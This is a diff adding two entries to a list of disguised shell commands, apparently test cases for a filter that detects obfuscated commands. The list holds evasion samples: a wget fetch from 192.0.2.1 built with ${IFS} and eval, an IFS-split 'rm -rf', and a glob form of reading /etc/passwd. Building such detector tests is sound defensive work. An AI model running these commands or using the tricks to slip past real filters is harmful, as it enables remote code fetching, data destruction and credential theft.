@@ -22,6 +22,8 @@ DISGUISED = [
     "wg$()et http://192.0.2.1/a",
     "IFS=,; c=rm,-rf,/srv/app; $c",
     "c=cat_/etc/hostname; IFS=_; $c",
+    "/???/?at /???/??ss??",
+    "c='wget${IFS}-qO-${IFS}192.0.2.1/p'; eval \"$c\"",
     # cut out of variables, letters left out
     'eval "${a:3:1}${b:2:1}${c:0:1} -la"',
     "x='k#u#b#e'; eval \"${x//#/}\"",
